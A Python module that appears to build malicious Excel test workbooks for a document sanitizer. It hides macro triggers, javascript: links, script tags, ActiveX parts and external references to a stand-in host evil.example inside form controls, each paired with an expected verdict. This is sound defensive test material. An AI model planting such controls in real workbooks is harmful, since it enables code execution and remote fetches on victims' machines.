"""Form controls of a sheet: what they run and where they point out of the workbook, in each of the three places that describe one."""
from . import excel
from .attack_formulas import KINDS
from .package import XML, escaped
from .sample import Sample, slug

SHEET1, DRAWING, VML = 'xl/worksheets/sheet1.xml', 'xl/drawings/drawing1.xml', 'xl/drawings/vmlDrawing1.vml'
X14 = 'http://schemas.microsoft.com/office/spreadsheetml/2009/9/main'
PLACE = '<xdr:col>%d</xdr:col><xdr:colOff>0</xdr:colOff><xdr:row>%d</xdr:row><xdr:rowOff>0</xdr:rowOff>'
# kind in the properties -> kind in VML, properties, VML's children
CONTROLS = {
	'CheckBox': ('Checkbox', 'checked="Checked" fmlaLink="{link}" lockText="1" noThreeD="1"', '<x:Checked>1</x:Checked><x:FmlaLink>{link}</x:FmlaLink><x:NoThreeD/>'),
	'Radio': ('Radio', 'firstButton="1" fmlaLink="{link}" fmlaGroup="{group}" lockText="1"', '<x:FmlaGroup>{group}</x:FmlaGroup><x:FmlaLink>{link}</x:FmlaLink><x:FirstButton/>'),
	'Drop': ('Drop', 'dropLines="8" dropStyle="combo" dx="16" fmlaLink="{link}" fmlaRange="{range}" noThreeD="1" sel="2" val="0"',
		'<x:Val>0</x:Val><x:Min>0</x:Min><x:Max>1</x:Max><x:Inc>1</x:Inc><x:Page>8</x:Page><x:Dx>16</x:Dx><x:FmlaRange>{range}</x:FmlaRange><x:FmlaLink>{link}</x:FmlaLink><x:Sel>2</x:Sel>'
		'<x:NoThreeD2/><x:SelType>Single</x:SelType><x:LCT>Normal</x:LCT><x:DropStyle>Combo</x:DropStyle><x:DropLines>8</x:DropLines>'),
	'List': ('List', 'dx="16" fmlaRange="{range}" multiSel="1, 3" seltype="multi" sel="1" val="0"',
		'<x:FmlaRange>{range}</x:FmlaRange><x:SelType>Multi</x:SelType><x:MultiSel>1, 3</x:MultiSel><x:Dx>16</x:Dx>'),
	'Spin': ('Spin', 'dx="16" fmlaLink="{link}" inc="5" max="30000" min="0" page="10" val="5"',
		'<x:Val>5</x:Val><x:Min>0</x:Min><x:Max>30000</x:Max><x:Inc>5</x:Inc><x:Page>10</x:Page><x:Dx>16</x:Dx><x:FmlaLink>{link}</x:FmlaLink>'),
	'Scroll': ('Scroll', 'dx="16" fmlaLink="{link}" horiz="1" max="100" page="10" val="7"',
		'<x:Val>7</x:Val><x:Min>0</x:Min><x:Max>100</x:Max><x:Inc>1</x:Inc><x:Page>10</x:Page><x:Horiz/><x:Dx>16</x:Dx><x:FmlaLink>{link}</x:FmlaLink>'),
	'Button': ('Button', 'lockText="1"', '<x:TextHAlign>Center</x:TextHAlign><x:TextVAlign>Center</x:TextVAlign>'),
	'GBox': ('GBox', 'noThreeD="1"', '<x:NoThreeD/>'),
	'Label': ('Label', 'fmlaTxbx="{text}" lockText="1"', '<x:FmlaTxbx>{text}</x:FmlaTxbx>'),
}
# as Excel writes words: a line break without an end, several blanks in a span of their own
LINES = '%s<br>\n      <b>二</b>行目<span style=\'mso-spacerun:yes\'>\u00a0\u00a0 </span>x'
INSIDE = {'link': '$C$4', 'range': '集計!$A$1:$A$3', 'group': '$C$3', 'text': '$B$2'}


def control(p, kind, number, words='x', shown=None, properties='', client='', sheet='', shape='', macro='', **formulas):
	"""Adds a control of that kind: its properties, its entry in the sheet, its shapes. The others are put in where their names say."""
	vml, attributes, children = CONTROLS[kind]
	for name, inside in INSIDE.items():
		attributes = attributes.replace('{%s}' % name, escaped(formulas.get(name, inside)))
		children = children.replace('{%s}' % name, escaped(formulas.get('vml_' + name, formulas.get(name, inside))))
	name, row = 'xl/ctrlProps/ctrlProp%d.xml' % number, 3 * number
	begin, end = PLACE % (8, row), PLACE % (10, row + 2)
	p.add(name, XML + '<formControlPr xmlns="%s" objectType="%s" %s%s/>' % (X14, kind, attributes, properties), 'application/vnd.ms-excel.controlproperties+xml')
	relation = p.relate(SHEET1, 'ctrlProp', '/' + name)
	p.at(VML, 'SHAPES', '<v:shape id="_x0000_s%d" type="#_x0000_t201" style="position:absolute;margin-left:400pt;margin-top:%dpt;width:96pt;height:36pt;z-index:%d" filled="f" '
		'stroked="f" o:insetmode="auto"%s><v:textbox style="mso-direction-alt:auto"><div style="text-align:left"><font face="Meiryo" size="180" color="auto">%s</font></div></v:textbox>'
		'<x:ClientData ObjectType="%s"><x:Anchor>8, 0, %d, 0, 10, 0, %d, 0</x:Anchor><x:AutoFill>False</x:AutoFill>%s%s</x:ClientData></v:shape>'
		% (1025 + number, 18 * row, number, shape, LINES % words if kind == 'Button' else words, vml, row, row + 2, children, client))
	p.at(DRAWING, 'ANCHORS', '<mc:AlternateContent><mc:Choice xmlns:a14="http://schemas.microsoft.com/office/drawing/2010/main" Requires="a14"><xdr:twoCellAnchor editAs="oneCell"><xdr:from>%s</xdr:from>'
		'<xdr:to>%s</xdr:to><xdr:sp macro="%s" textlink=""><xdr:nvSpPr><xdr:cNvPr id="%d" name="%s %d" hidden="1"><a:extLst><a:ext uri="{63B3BB69-23CF-44E3-9099-C40C66FF867C}"><a14:compatExt spid="_x0000_s%d"/>'
		'</a:ext></a:extLst></xdr:cNvPr><xdr:cNvSpPr/></xdr:nvSpPr><xdr:spPr><a:xfrm><a:off x="0" y="0"/><a:ext cx="0" cy="0"/></a:xfrm><a:prstGeom prst="rect"><a:avLst/></a:prstGeom></xdr:spPr>'
		'<xdr:txBody><a:bodyPr/><a:lstStyle/><a:p><a:r><a:rPr lang="ja-JP"/><a:t>%s</a:t></a:r></a:p></xdr:txBody></xdr:sp><xdr:clientData/></xdr:twoCellAnchor></mc:Choice><mc:Fallback/></mc:AlternateContent>'
		% (begin, end, macro, 1025 + number, kind, number, 1025 + number, shown or words))
	return ('<mc:AlternateContent><mc:Choice Requires="x14"><control shapeId="%d" r:id="%s" name="%s %d"><controlPr defaultSize="0" autoFill="0" autoLine="0" autoPict="0"%s><anchor moveWithCells="1">'
		'<from>%s</from><to>%s</to></anchor></controlPr></control></mc:Choice></mc:AlternateContent>' % (1025 + number, relation, kind, number, sheet, begin, end))


def listed(p, controls):
	p.at(SHEET1, 'LEGACY', '<mc:AlternateContent><mc:Choice Requires="x14"><controls>%s</controls></mc:Choice></mc:AlternateContent>' % ''.join(controls))


def workbook(keep, kind, **attack):
	"""The attacked control of that kind, and after it one of every kind that is harmless."""
	p = excel.package(keep)
	p.at(VML, 'SHAPES', '<v:shapetype id="_x0000_t201" coordsize="21600,21600" o:spt="201" path="m,l,21600r21600,l21600,xe"><v:path strokeok="f" fillok="f" o:connecttype="rect"/></v:shapetype>')
	first = [control(p, kind, 1, **{'words': 'first', **attack})] if kind else []
	listed(p, first + [control(p, other, 2 + number, '%s %s' % (keep, other)) for number, other in enumerate(CONTROLS)])
	return p.bytes()


MACROS = {
	'properties': {'properties': ' fmlaMacro="{m}"'},
	'properties-outside': {'properties': ' fmlaMacro="[0]!{m}"'},
	'sheet': {'sheet': ' macro="[0]!{m}"'},
	'sheet-outside': {'sheet': ' macro="\'\\\\evil.example\\x.xlsm\'!{m}"'},
	'drawing': {'macro': '[0]!{m}'},
	'vml': {'client': '<x:FmlaMacro>[0]!{m}</x:FmlaMacro>'},
	'vml-script': {'client': '<x:ScriptText>{m}</x:ScriptText><x:ScriptLanguage>1</x:ScriptLanguage>'},
	'vml-script-extended': {'client': '<x:ScriptExtended>{m}</x:ScriptExtended><x:ScriptLocation>1</x:ScriptLocation>'},
	'vml-picture': {'client': '<x:FmlaPict>EMBED("Forms.CommandButton.1","{m}")</x:FmlaPict><x:MapOCX/><x:CF>{m}</x:CF><x:DDE/><x:Camera/>'},
	'vml-click': {'shape': ' href="javascript:{m}" onmouseover="{m}"'},
	'vml-button': {'shape': ' o:button="t" onclick="{m}" href="file:///c:/{m}.exe" target="{m}"'},
	'vml-words': {'words': '<a href="javascript:{m}">first</a><script>{m}</script><object data="{m}"/>', 'shown': 'first'},
	'sheet-name': {'sheet': ' macro="_xlnm.Auto_Open{m}"'},
}
PLACES = {
	'properties-link': ('CheckBox', 'link', 'vml_link'), 'properties-range': ('Drop', 'range', 'vml_range'),
	'properties-group': ('Radio', 'group', 'vml_group'), 'properties-text': ('Label', 'text', 'vml_text'),
	'vml-link': ('Spin', 'vml_link', None), 'vml-range': ('List', 'vml_range', None), 'vml-group': ('Radio', 'vml_group', None), 'vml-text': ('Label', 'vml_text', None),
	'sheet-cell': ('CheckBox', ' linkedCell="%s"', None), 'sheet-range': ('Drop', ' listFillRange="%s"', None),
	'vml-picture': ('Button', '<x:FmlaPict>%s</x:FmlaPict><x:CF>Pict</x:CF><x:Camera/>', None),
}
OUT = ('dde', 'dde-quoted', 'external-index', 'external-book', 'external-unc', 'external-url', 'external-3d', 'CALL', 'REGISTER', 'EXEC', 'RUN', 'EVALUATE', 'WEBSERVICE', 'RTD', 'IMAGE',
	'HYPERLINK-unc', 'HYPERLINK-js', 'SQL.REQUEST', 'PY')


def attacked(kind, attack):
	def make(mark, keep):
		return workbook(keep, kind, **{name: value.replace('{m}', mark) for name, value in attack.items()})
	return make


def in_place(place, formula):
	kind, name, twin = PLACES[place]
	if '%s' in name:
		return attacked(kind, {'client' if name[0] == '<' else 'sheet': name % escaped(formula)})
	attack = {name: formula}
	if twin:
		attack[twin] = INSIDE[name]
	return attacked(kind, attack)


def base(keep):
	"""A workbook with one harmless check box, which the attacks on the structure change."""
	p = excel.package(keep)
	listed(p, [control(p, 'CheckBox', 1, keep)])
	return p


PROPERTIES = 'xl/ctrlProps/ctrlProp1.xml'
ACTIVEX = '<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX" ax:classid="{%s}" ax:persistence="persistStreamInit"/>'


def is_activex(p, mark):
	p.add(PROPERTIES, XML + ACTIVEX % mark, 'application/vnd.ms-excel.controlproperties+xml')


def typed_activex(p, mark):
	p.add(PROPERTIES, XML + '<formControlPr xmlns="%s" objectType="CheckBox" fmlaMacro="%s"/>' % (X14, mark), 'application/vnd.ms-office.activeX+xml')


def typed_macro(p, mark):
	p.add(PROPERTIES, 'Attribut\0e VB_Name = "%s"' % mark, 'application/vnd.ms-office.vbaProject')


def is_sheet(p, mark):
	p.relationships[SHEET1] = [row if row[1].rpartition('/')[2] != 'ctrlProp' else (row[0], row[1], 'sheet2.xml', False) for row in p.relationships[SHEET1]]
	p.add(PROPERTIES, '<x>%s</x>' % mark)


def leads(p, number):
	p.replace(SHEET1, 'r:id="%s" name="CheckBox 1"' % next(row[0] for row in p.relationships[SHEET1] if row[1].endswith('/ctrlProp')), 'r:id="%s" name="CheckBox 1"' % number)


def of_link(p, mark):
	p.replace(PROPERTIES, 'objectType', 'fmlaMacro="%s" objectType' % mark)
	leads(p, 'rIdLink')


def of_drawing(p, mark):
	p.replace(PROPERTIES, 'objectType', 'fmlaMacro="%s" objectType' % mark)
	leads(p, 'rIdDrawing')


def of_nothing(p, mark):
	p.add('xl/%s.xml' % mark, '<x>%s</x>' % mark)
	leads(p, 'rId999')


def picture_outside(p, mark):
	number = p.relate(SHEET1, 'image', 'file://evil.example/%s.png' % mark, external=True)
	p.replace(SHEET1, '<controlPr ', '<controlPr r:id="%s" ' % number)


def own_relations(p, mark):
	p.relate(PROPERTIES, 'oleObject', 'file://evil.example/' + mark, external=True)
	p.add('xl/vbaProject.bin', mark.encode(), 'application/vnd.ms-office.vbaProject')
	p.relate(PROPERTIES, 'http://schemas.microsoft.com/office/2006/relationships/vbaProject', '../vbaProject.bin')


def twice(p, mark):
	"""Two entries of one shape, the second one with a macro."""
	p.at(SHEET1, 'LEGACY', '<controls><control shapeId="1026" r:id="rIdLink" name="%s"><controlPr macro="%s"/></control><control shapeId="1026" r:id="%s" name="again"><controlPr macro="[0]!%s"/></control></controls>'
		% (mark, mark, next(row[0] for row in p.relationships[SHEET1] if row[1].endswith('/ctrlProp')), mark))
	p.at(VML, 'SHAPES', '<v:shape id="_x0000_s1026" type="#_x0000_t201" style="position:absolute"><x:ClientData ObjectType="Button"><x:FmlaMacro>%s</x:FmlaMacro></x:ClientData></v:shape>' % mark)


def kind_of_shape(kind):
	def change(p, mark):
		p.replace(VML, 'ObjectType="Checkbox"', 'ObjectType="%s"' % kind.replace('{m}', mark))
		p.replace(VML, '<x:NoThreeD/></x:ClientData>', '<x:NoThreeD/><x:FmlaMacro>%s</x:FmlaMacro><x:FmlaPict>EMBED("%s","")</x:FmlaPict></x:ClientData>' % (mark, mark))
	return change


def kind_of_properties(kind):
	def change(p, mark):
		p.replace(PROPERTIES, 'objectType="CheckBox"', 'objectType="%s" fmlaMacro="%s"' % (kind.replace('{m}', mark), mark))
	return change


def alternate(p, mark):
	"""What a program that does not know x14 would see."""
	number = p.relate(SHEET1, 'control', '../activeX/activeX1.xml')
	p.add('xl/activeX/activeX1.xml', XML + ACTIVEX % mark, 'application/vnd.ms-office.activeX+xml')
	p.replace(SHEET1, '</control></mc:Choice>', '</control></mc:Choice><mc:Fallback><control shapeId="1026" r:id="%s" name="%s"/></mc:Fallback>' % (number, mark))


STRUCTURES = {
	'part-is-activex': is_activex, 'part-typed-activex': typed_activex, 'part-typed-macro': typed_macro, 'part-is-sheet': is_sheet,
	'leads-to-link': of_link, 'leads-to-drawing': of_drawing, 'leads-nowhere': of_nothing, 'picture-outside': picture_outside, 'own-relations': own_relations,
	'twice': twice, 'alternate': alternate,
	**{'shape-' + slug(kind): kind_of_shape(kind) for kind in ('Dialog', 'Movie', 'Pict', 'Note', '{m}', '')},
	**{'properties-' + slug(kind): kind_of_properties(kind) for kind in ('Dialog', '{m}', '')},
}


def structure(change):
	def make(mark, keep):
		p = base(keep)
		change(p, mark)
		return p.bytes()
	return make


CAMERA = ('<xdr:cNvPicPr><a:picLocks noChangeAspect="1"/><a:extLst><a:ext uri="{84589F7E-364E-4C9E-8A38-B11213B215E9}"><a14:cameraTool '
	'xmlns:a14="http://schemas.microsoft.com/office/drawing/2010/main" cellRange="%s" spid="_x0000_s1040"/></a:ext></a:extLst></xdr:cNvPicPr>')


def camera(formula):
	"""A picture of cells that follows them."""
	def make(mark, keep):
		p = base(keep)
		p.replace(DRAWING, '<xdr:cNvPicPr/>', CAMERA % escaped(formula.replace('{m}', mark)))
		return p.bytes()
	return make


def alone(mark, keep):
	"""The only control of the sheet leads to an ActiveX part: no list of controls stays."""
	p = excel.package(keep)
	p.add('xl/activeX/activeX1.xml', XML + '<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX" ax:classid="{%s}"/>' % mark, 'application/vnd.ms-office.activeX+xml')
	relation = p.relate(SHEET1, 'control', '../activeX/activeX1.xml')
	listed(p, ['<mc:AlternateContent><mc:Choice Requires="x14"><control shapeId="1026" r:id="%s" name="%s"/></mc:Choice><mc:Fallback><control shapeId="1026" r:id="%s" name="%s"/></mc:Fallback></mc:AlternateContent>'
		% (relation, mark, relation, mark)])
	return p.bytes()


CHECKS = tuple('name:xl/ctrlProps/ctrlProp%d.xml' % number for number in range(1, len(CONTROLS) + 1))


def samples():
	for name, attack in MACROS.items():
		yield Sample('controls/macro-%s.xlsx' % name, 'ooxml/controls', attacked('Button', attack), telling=name in ('properties', 'vml'))
	for place in PLACES:
		for kind in OUT:
			yield Sample('controls/%s-%s.xlsx' % (slug(kind), place), 'ooxml/controls', in_place(place, KINDS[kind]), verdicts=('sanitized',))
	for kind in OUT:
		yield Sample('controls/%s-camera.xlsx' % slug(kind), 'ooxml/controls', camera(KINDS[kind]), verdicts=('sanitized',))
	yield Sample('harmless/camera.xlsx', 'harmless', camera('集計!$A$1:$B$2'), verdicts=('clean',), harmless=True, keep=['cellRange="集計!$A$1:$B$2"'])
	for name, change in STRUCTURES.items():
		yield Sample('controls/%s.xlsx' % name, 'ooxml/controls', structure(change), verdicts=('clean', 'sanitized'))
	yield Sample('controls/activex-alone.xlsx', 'ooxml/controls', alone, findings=('active-control-removed',))
	yield Sample('harmless/controls.xlsx', 'harmless', lambda mark, keep: workbook(keep, None), verdicts=('clean',), harmless=True, checks=CHECKS, telling=True)
